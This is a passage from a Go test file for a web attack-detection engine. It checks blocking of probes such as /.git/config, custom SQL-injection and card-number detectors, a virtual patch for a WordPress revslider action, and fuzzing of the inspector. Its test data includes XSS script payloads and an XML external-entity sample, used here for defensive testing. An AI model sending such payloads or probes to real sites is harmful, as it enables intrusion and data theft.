		t.Errorf("/phpmyadmin: attack %v blocked %v: %+v", res.Attack(), res.Blocked(), res.Detections)
	}
	if res := e.Inspect(get("/.git/config", "")); !res.Blocked() {
		t.Errorf("/.git/config not blocked: %+v", res.Detections)
	}
	if res := e.Inspect(get("/wp-json/wp/v2/users", "context=view&who=authors&per_page=50&_locale=user")); res.Attack() {
		t.Errorf("the block editor's authors list flagged: %+v", res.Detections)
	}
}

func mustRules(t *testing.T, cfg detect.RulesConfig) *detect.Rules {
	t.Helper()
	r, err := detect.NewRules(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func TestRules(t *testing.T) {
	e := detect.New(detect.Options{})
	e.SetRules(mustRules(t, detect.RulesConfig{
		Version: 7,
		CustomDetectors: []detect.CustomDetector{
			{RuleID: 10, AppID: 1, Type: "sqli", Points: []point.Pattern{point.MustParsePattern("query.order")}, Regex: `(?i)^[a-z_]+\s+(asc|desc)\s*,`},
			{RuleID: 11, Type: "data_leak", Regex: `\b\d{16}\b`, Experimental: true},
		},
		VirtualPatches: []detect.VirtualPatch{
			{RuleID: 20, AppID: 1, Method: "POST", Path: `^/wp-admin/admin-ajax\.php$`, Conditions: []detect.PointCondition{{Point: point.MustParsePattern("body|form.action"), Regex: `^revslider_show_image$`}}},
		},
		Disabled: []detect.DisabledAttack{
			{RuleID: 30, AppID: 1, Type: "xss", Point: point.MustParsePattern("body|json.html")},
		},
		Sensitive: []detect.SensitivePoint{
			{RuleID: 40, AppID: 1, Point: point.MustParsePattern("body|json.**.password")},
			{RuleID: 41, Point: point.MustParsePattern("cookie.session")},
		},
	}))

	res := e.Inspect(get("/list", "order=name%20desc,%20id"))
	if !hasDetection(res, "sqli", "query.order") || res.Detections[0].DetectorID != "custom.10" || !res.Blocked() {
		t.Errorf("custom detector: %+v", res.Detections)
	}
	if res.RulesVersion != 7 {
		t.Errorf("RulesVersion = %d", res.RulesVersion)
	}
	res = e.Inspect(get("/pay", "note=card%204111111111111111"))
	if !hasDetection(res, "data_leak", "query.note") || res.Blocked() || !res.Detections[0].Experimental {
		t.Errorf("experimental detector must report without blocking: %+v", res.Detections)
	}
	res = e.Inspect(post("/wp-admin/admin-ajax.php", "application/x-www-form-urlencoded", "action=revslider_show_image&img=x"))
	if vp := res.VirtualPatch(); vp == nil || vp.RuleID != 20 || vp.Point.String() != "body|form.action" {
		t.Errorf("virtual patch: %+v", res.Detections)
	}
	if res := e.Inspect(get("/wp-admin/admin-ajax.php", "action=revslider_show_image")); res.VirtualPatch() != nil {
		t.Error("virtual patch matched a GET")
	}
	html := `{"html":{"body":"<script>alert(1)</script>"},"other":"<script>alert(1)</script>"}`
	res = e.Inspect(post("/cms", "application/json", html))
	if hasDetection(res, "xss", "body|json.html.body") || !hasDetection(res, "xss", "body|json.other") {
		t.Errorf("disabled xss at body|json.html: %+v", res.Detections)
	}
	req := post("/cms", "application/json", html)
	req.AppID = 2 // the disable rule is for application 1 only
	if res := e.Inspect(req); !hasDetection(res, "xss", "body|json.html.body") {
		t.Errorf("disable rule leaked to another application: %+v", res.Detections)
	}
	r := e.Rules()
	for _, tt := range []struct {
		app  int64
		p    string
		want bool
	}{
		{1, "body|json.user.password", true},
		{1, "body|json.password", true},
		{2, "body|json.password", false},
		{2, "cookie.session", true},
		{1, "cookie.session|base64|json.uid", true},
		{1, "cookie.theme", false},
	} {
		if got := r.Sensitive(tt.app, point.MustParse(tt.p)); got != tt.want {
			t.Errorf("Sensitive(%d, %s) = %v, want %v", tt.app, tt.p, got, tt.want)
		}
	}
}

func TestNewRulesErrors(t *testing.T) {
	for _, cfg := range []detect.RulesConfig{
		{CustomDetectors: []detect.CustomDetector{{RuleID: 1, Type: "x", Regex: "("}}},
		{CustomDetectors: []detect.CustomDetector{{RuleID: 1, Regex: "a"}}},
		{VirtualPatches: []detect.VirtualPatch{{RuleID: 2}}},
		{VirtualPatches: []detect.VirtualPatch{{RuleID: 2, Path: "[", Method: "GET"}}},
		{Disabled: []detect.DisabledAttack{{RuleID: 3, Type: "Not A Type"}}},
		{Sensitive: []detect.SensitivePoint{{RuleID: 4}}},
	} {
		if _, err := detect.NewRules(cfg); err == nil {
			t.Errorf("NewRules(%+v) accepted", cfg)
		}
	}
}

// TestSetRulesConcurrent swaps rules while requests are inspected (run with
// -race): every inspection sees one whole ruleset.
func TestSetRulesConcurrent(t *testing.T) {
	e := detect.New(detect.Options{})
	rules := []*detect.Rules{
		mustRules(t, detect.RulesConfig{Version: 1}),
		mustRules(t, detect.RulesConfig{Version: 2, CustomDetectors: []detect.CustomDetector{{RuleID: 1, Type: "custom", Regex: "needle"}}}),
	}
	var wg sync.WaitGroup
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 300; i++ {
				res := e.Inspect(get("/", "q=needle"))
				if (res.RulesVersion == 2) != (len(res.Detections) == 1) {
					panic(fmt.Sprintf("version %d with %d detections", res.RulesVersion, len(res.Detections)))
				}
			}
		}()
	}
	for i := 0; i < 300; i++ {
		e.SetRules(rules[i%2])
	}
	wg.Wait()
}

func TestBoundedWork(t *testing.T) {
	e := detect.New(detect.Options{MaxValues: 100, MaxBody: 1 << 10, KeepValues: true})
	res := e.Inspect(get("/", strings.Repeat("a=1&", 1000)))
	if !res.Truncated || len(res.Values) > 101 {
		t.Errorf("values %d truncated %v", len(res.Values), res.Truncated)
	}
	res = e.Inspect(post("/", "text/plain", strings.Repeat("x", 4096)))
	if !res.Truncated {
		t.Error("body over MaxBody not marked truncated")
	}
}

// FuzzInspect: any request is inspected without panic, within bounds.
func FuzzInspect(f *testing.F) {
	f.Add("/a/b", "x=1&y=%27", "application/json", `{"a":[1,{"b":"<script>"}]}`, "")
	f.Add("/", "", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a\"\r\n\r\nx\r\n--b--", "")
	f.Add("/", "q=e30", "text/xml", `<!DOCTYPE a [<!ENTITY b SYSTEM "x">]><a b="c">&b;</a>`, "")
	f.Add("/g", "", "application/json", `{"query":"{ a(b: \"c\") { d } }","variables":{"e":1}}`, "gzip")
	e := detect.New(detect.Options{MaxBody: 64 << 10, MaxValues: 512, KeepValues: true})
	lazy := detect.New(detect.Options{MaxBody: 64 << 10, MaxValues: 512})
	f.Fuzz(func(t *testing.T, path, query, ct, body, enc string) {
		req := &detect.Request{Method: "POST", Path: path, RawQuery: query, ContentType: ct, ContentEncoding: enc, Body: []byte(body),
			Header: http.Header{"Cookie": {query}, "Authorization": {"Bearer " + query}}}
		res := e.Inspect(req)
		if diff := sameValues(res, lazy.Inspect(req)); diff != "" {
			t.Fatal(diff)
		}
		if len(res.Values) > 512+8 {
			t.Fatalf("%d values over the limit", len(res.Values))
		}
		for _, d := range res.Detections {
			if d.Start < 0 || d.End > len(d.Value) || d.Start > d.End {
				t.Fatalf("detection %s has fragment [%d:%d] outside its value of %d bytes", d.DetectorID, d.Start, d.End, len(d.Value))
			}
			if d.Value != "" && !slices.ContainsFunc(res.Values, func(v detect.Value) bool { return v.Point.Equal(d.Point) && v.Value == d.Value }) {
				t.Fatalf("detection %s at %s is in %q, which is not a kept value: masking would not know it", d.DetectorID, d.Point, d.Value)
			}
			if _, err := point.Parse(d.Point.String()); err != nil {
				t.Fatalf("detection point %q does not parse: %v", d.Point, err)
			}
		}
	})
}
